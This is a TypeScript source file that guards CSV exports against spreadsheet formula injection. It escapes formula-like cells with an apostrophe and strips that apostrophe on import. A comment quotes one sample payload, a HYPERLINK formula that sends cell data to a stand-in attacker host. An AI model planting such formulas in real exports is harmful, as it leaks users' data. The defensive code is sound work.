/**
 * What makes a spreadsheet program read a text cell as a formula: a first character of
 * `=`, `+`, `-` or `@` (also in their full-width forms, which some locales accept), after
 * any spaces; or a leading tab or line break, which is trimmed before the `=` behind it is
 * read. A milestone titled `=HYPERLINK("http://evil.example/?x="&A1,"klik")` would
 * otherwise be a live link that sends the sheet's data away when clicked.
 */
const FORMULA_START = /^(?:[\t\r\n]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/;

/**
 * A text as a CSV cell may hold it: one that a spreadsheet would run as a formula gets a
 * leading apostrophe (the usual defence, OWASP's "CSV injection"), which makes it text.
 * Every CSV that Pejling writes, on the server and in the browser, passes its texts
 * through here, and the plan import reads them back through `fromSpreadsheetCell`.
 */
export function toSpreadsheetCell(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/**
 * A CSV cell's text as it was before `toSpreadsheetCell`: a cell that starts with an
 * apostrophe followed by what `FORMULA_START` matches had the apostrophe added there, so it
 * is taken off. Any other apostrophe is the text's own ("'citat" stays as it is).
 */
export function fromSpreadsheetCell(cell: string): string {
  return cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) ? cell.slice(1) : cell;
}
